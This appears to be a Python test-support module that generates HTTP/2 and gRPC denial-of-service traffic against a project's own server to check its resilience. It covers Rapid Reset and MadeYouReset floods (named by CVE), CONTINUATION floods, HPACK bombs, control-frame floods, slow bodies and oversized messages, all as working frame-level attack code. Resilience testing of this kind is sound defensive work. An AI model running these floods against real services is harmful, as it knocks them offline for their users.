"""Attacks on a gRPC port: floods of frames, calls that stay open, bodies that do not come."""

from __future__ import annotations

import time
from collections.abc import Callable
from functools import partial

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions
import hpack

from firewall.wire import open_inference_pb2 as oip
from tests.support import http2_frames as http2
from tests.support.flooding import Flood, Link
from tests.support.http2_frames import frame, header_block, number, prefixed, settings

PREDICT = "/firewall.v1.FirewallService/Predict"
INFER = "/inference.GRPCInferenceService/ModelInfer"
CHECK, WATCH = "/grpc.health.v1.Health/Check", "/grpc.health.v1.Health/Watch"
REFLECTION = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
SILENT = (PREDICT, INFER, CHECK, WATCH, REFLECTION)
#: A request for the names of all services.
_LIST_SERVICES = prefixed(b"\x3a\x00")
#: Calls whose frames are sent together.
_BATCH = 500
#: Streams that are open at a time on one connection; the server allows as many.
_OPEN = 100
#: Bytes a second of one slow body, and of its message.
SLOW_RATE, SLOW_MESSAGE = 120_000, 600_000


def _begin(link: Link, values: dict[int, int] | None = None) -> None:
    # Settings of the server are acknowledged unseen, or it would refuse all but its first streams.
    acknowledged = frame(http2.SETTINGS, http2.ACK, 0)
    link.send(http2.PREFACE + settings(values) + acknowledged)


#: Frames of a call after its HEADERS, by stream.
After = Callable[[int], bytes]


def _keep_calling(link: Link, path: str, after: After, *, calls: int = 2**30) -> None:
    """Begin calls as fast as the connection takes them, until the server closes it."""
    blocks = http2.HeaderBlocks(http2.call_fields(path))
    for first in range(1, 2 * calls, 2 * _BATCH):
        streams = range(first, min(first + 2 * _BATCH, 2 * calls), 2)
        link.send(b"".join(header_block(blocks.block(one), one) + after(one) for one in streams))
        if link.over:
            return


def _cancel(stream: int) -> bytes:
    return frame(http2.RST_STREAM, 0, stream, number(8))


def rapid_reset(link: Link) -> None:
    """Begin calls and cancel each at once (CVE-2023-44487)."""
    link.discard()
    _begin(link)
    _keep_calling(link, PREDICT, _cancel)


def reconnecting_reset(link: Link) -> None:
    """The same, a hundred calls over each of many connections, which are closed."""
    link.discard()
    _begin(link)
    _keep_calling(link, PREDICT, _cancel, calls=_OPEN)


#: Frames after which a server has to reset the stream itself (CVE-2025-8671).
_FAULTS: tuple[After, ...] = (
    lambda stream: frame(http2.WINDOW_UPDATE, 0, stream, number(0)),
    lambda stream: frame(http2.WINDOW_UPDATE, 0, stream, number(2**31 - 1)),
    # A stream that depends on itself.
    lambda stream: frame(http2.PRIORITY, 0, stream, number(stream) + b"\x10"),
    lambda stream: frame(http2.DATA, http2.END_STREAM, stream, prefixed(b"")) * 2,
    lambda stream: (
        frame(http2.DATA, http2.END_STREAM, stream, prefixed(b""))
        + frame(http2.HEADERS, http2.END_HEADERS, stream, b"\x82")
    ),
)


def made_to_reset(link: Link) -> None:
    """Break the rules of a stream, in another way over each connection (CVE-2025-8671)."""
    link.discard()
    _begin(link)
    _keep_calling(link, PREDICT, _FAULTS[link.number % len(_FAULTS)])


def call_flood(link: Link, path: str, message: bytes = b"") -> None:
    """Ask without waiting for answers, which are read."""
    link.discard()
    _begin(link)
    body = prefixed(message)
    _keep_calling(link, path, lambda stream: frame(http2.DATA, http2.END_STREAM, stream, body))


def stream_flood(link: Link, path: str, message: bytes = b"") -> None:
    """Begin streams, send a message on each, and keep them open; begin again when they end."""
    _hold(link, path, prefixed(message), {})


def silent_calls(link: Link) -> None:
    """Begin calls and send nothing; the method depends on the connection."""
    _hold(link, SILENT[link.number % len(SILENT)], b"", {})


def never_taken(link: Link, path: str, message: bytes, *, ended: bool) -> None:
    """Ask, and allow the server to send no byte of the answer."""
    _hold(link, path, prefixed(message), {http2.INITIAL_WINDOW_SIZE: 0}, ended=ended)


def never_read(link: Link) -> None:
    """Ask again and again, and read nothing from the connection."""
    _begin(link)
    _keep_calling(link, REFLECTION, lambda stream: frame(http2.DATA, 0, stream, _LIST_SERVICES))


def _hold(
    link: Link, path: str, body: bytes, values: dict[int, int], *, ended: bool = False
) -> None:
    """Keep as many streams open as the server allows."""
    _begin(link, values)
    blocks = http2.HeaderBlocks(http2.call_fields(path))
    stream, live = 1, 0
    frames = FrameReader(link)
    while not link.over:
        parts = []
        for _ in range(_OPEN - live):
            parts.append(header_block(blocks.block(stream), stream))
            if body:
                parts.append(frame(http2.DATA, int(ended), stream, body))
            stream += 2
        live = _OPEN
        link.send(b"".join(parts))
        for kind, flags, where in frames.read():
            if where and (kind == http2.RST_STREAM or (kind == http2.HEADERS and flags & 1)):
                live = max(0, live - 1)
            if kind == http2.GOAWAY:
                return
        # Streams that are refused at once would only keep the attacker busy.
        link.pause(0.01)


class FrameReader:
    """Heads of the frames that come."""

    def __init__(self, link: Link) -> None:
        self._link = link
        self._rest = b""

    def read(self) -> list[tuple[int, int, int]]:
        """Kind, flags and stream of each frame that came; empty when none comes for a moment."""
        data = self._rest + self._link.receive()
        place = 0
        found = []
        while len(data) - place >= 9:
            size = int.from_bytes(data[place : place + 3], "big")
            if len(data) - place < 9 + size:
                break
            stream = int.from_bytes(data[place + 5 : place + 9], "big")
            found.append((data[place + 3], data[place + 4], stream))
            place += 9 + size
        self._rest = data[place:]
        return found


def many_fields(link: Link) -> None:
    """Calls with a thousand small header fields, or with one of a megabyte."""
    link.discard()
    _begin(link)
    literal = hpack.Encoder().encode([(name, value) for name, value in http2.call_fields(PREDICT)])
    if link.number % 2:
        # Literals without indexing, of one letter each, so that they take little to send.
        block = literal + b"".join(b"\x00\x04x%03d\x01y" % field for field in range(1000))
    else:
        block = literal + b"\x00\x05large\x7f" + _integer(1_000_000, 7) + b"v" * 1_000_000
    stream = 1
    while not link.over:
        # Table references of the first block are the same in later ones: no field was indexed
        # but those of the call, whose table would only grow.
        link.send(header_block(block, stream, end_stream=True))
        stream += 2


def _integer(value: int, prefix: int) -> bytes:
    """The bytes of an HPACK integer that follow its full prefix."""
    value -= 2**prefix - 1
    parts = bytearray()
    while value >= 128:
        parts.append(value % 128 + 128)
        value //= 128
    parts.append(value)
    return bytes(parts)


def hpack_bomb(link: Link) -> None:
    """Index a value of 4,000 bytes, and refer to it sixteen thousand times in each call."""
    link.discard()
    _begin(link)
    encoder = hpack.Encoder()
    plain = encoder.encode(list(http2.call_fields(PREDICT)))
    large = b"\x40\x01b\x7f" + _integer(3900, 7) + b"v" * 3900
    # The large field is the newest of the dynamic table, entry 62.
    first, later = plain + large + b"\xbe" * 16_000, b"\xbe" * 16_000
    link.send(header_block(first, 1, end_stream=True))
    for stream in range(3, 20_000, 2):
        link.send(header_block(later, stream, end_stream=True))


def continuation_flood(link: Link) -> None:
    """A header block that never ends: of empty frames, or of small fields."""
    link.discard()
    _begin(link)
    blocks = http2.HeaderBlocks(http2.call_fields(PREDICT))
    link.send(frame(http2.HEADERS, 0, 1, blocks.block(1)))
    fields = b"\x00\x01x\x01y" * 3000 if link.number % 2 else b""
    frames = frame(http2.CONTINUATION, 0, 1, fields) * (4 if fields else 5000)
    while not link.over:
        link.send(frames)


def settings_flood(link: Link) -> None:
    """SETTINGS without end, whose acknowledgements are read over every other connection."""
    _control_flood(link, settings({http2.INITIAL_WINDOW_SIZE: 65_535}))


def ping_flood(link: Link) -> None:
    """PING without end, likewise."""
    _control_flood(link, frame(http2.PING, 0, 0, b"12345678"))


def _control_flood(link: Link, one: bytes) -> None:
    if link.number % 2:
        link.discard()
    _begin(link)
    frames = one * 2000
    while not link.over:
        link.send(frames)


def idle_connections(link: Link) -> None:
    """Connect, and say nothing, or nothing after the preface."""
    if link.number % 2:
        _begin(link)
    link.idle()


def slow_bodies(link: Link, *, calls: int) -> None:
    """Send several messages of 600 KB at a time, each at 0.12 MB/s, within the flow control."""
    connection = _client(link)
    left: dict[int, int] = {}
    began = time.monotonic()
    ticks = 0
    while not link.over:
        while len(left) < calls:
            stream = connection.get_next_available_stream_id()
            connection.send_headers(stream, list(http2.call_fields(PREDICT)))
            connection.send_data(stream, b"\0" + number(SLOW_MESSAGE))
            left[stream] = SLOW_MESSAGE
        for stream in list(left):
            amount = min(
                SLOW_RATE // 10, left[stream], connection.local_flow_control_window(stream)
            )
            if amount > 0:
                left[stream] -= amount
                end = left[stream] == 0
                for at in range(0, amount, http2.MAX_FRAME):
                    part = min(http2.MAX_FRAME, amount - at)
                    last = end and at + part == amount
                    connection.send_data(stream, b"\0" * part, end_stream=last)
                if end:
                    del left[stream]
        link.send(connection.data_to_send())
        ticks += 1
        while not link.over:
            for stream in _answers(connection, link):
                left.pop(stream, None)
            if time.monotonic() >= began + ticks / 10:
                break


def huge_messages(link: Link, *, size: int) -> None:
    """Send messages of nearly the largest size that is taken, one after the other."""
    connection = _client(link)
    request = oip.ModelInferRequest(model_name="tiny")
    request.inputs.add(name="image", datatype="FP32", shape=(64, 3, 32, 32))
    request.raw_input_contents.append(bytes(size))
    body = memoryview(prefixed(request.SerializeToString()))
    while not link.over:
        stream = connection.get_next_available_stream_id()
        connection.send_headers(stream, list(http2.call_fields(INFER)))
        place = 0
        while not link.over:
            while place < len(body):
                amount = connection.local_flow_control_window(stream)
                amount = min(amount, http2.MAX_FRAME, len(body) - place)
                if amount <= 0:
                    break
                connection.send_data(
                    stream, bytes(body[place : place + amount]), place + amount == len(body)
                )
                place += amount
            link.send(connection.data_to_send())
            if stream in _answers(connection, link):
                break


def _client(link: Link) -> h2.connection.H2Connection:
    connection = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    connection.initiate_connection()
    link.send(connection.data_to_send())
    _answers(connection, link)
    return connection


def _answers(connection: h2.connection.H2Connection, link: Link) -> set[int]:
    """Take what comes; returns the streams that ended."""
    ended = set()
    try:
        events = connection.receive_data(link.receive())
    except h2.exceptions.ProtocolError as error:
        raise ConnectionError("the server broke the protocol") from error
    for event in events:
        if isinstance(event, h2.events.StreamEnded | h2.events.StreamReset):
            ended.add(event.stream_id or 0)
        elif isinstance(event, h2.events.ConnectionTerminated):
            raise ConnectionError("closed by the server")
    link.send(connection.data_to_send())
    return ended


FLOODS: dict[str, Flood] = {
    "rapid reset": Flood(rapid_reset, 8),
    "reconnecting reset": Flood(reconnecting_reset),
    "made to reset": Flood(made_to_reset, 10),
    "health checks": Flood(partial(call_flood, path=CHECK)),
    "health watches": Flood(partial(stream_flood, path=WATCH), 16),
    "silent calls": Flood(silent_calls, 16),
    "reflection never taken": Flood(
        partial(never_taken, path=REFLECTION, message=_LIST_SERVICES[5:], ended=False), 16
    ),
    "watches never taken": Flood(partial(never_taken, path=WATCH, message=b"", ended=False), 16),
    "answers never taken": Flood(partial(never_taken, path=CHECK, message=b"", ended=True), 16),
    "connections never read": Flood(never_read, 16, small_buffers=True),
    "many header fields": Flood(many_fields),
    "hpack bombs": Flood(hpack_bomb),
    "continuation": Flood(continuation_flood),
    "settings": Flood(settings_flood),
    "pings": Flood(ping_flood),
    "idle connections": Flood(idle_connections, 2000),
    "slow bodies": Flood(partial(slow_bodies, calls=32), 4),
    "huge messages": Flood(partial(huge_messages, size=62 << 20), 8),
}
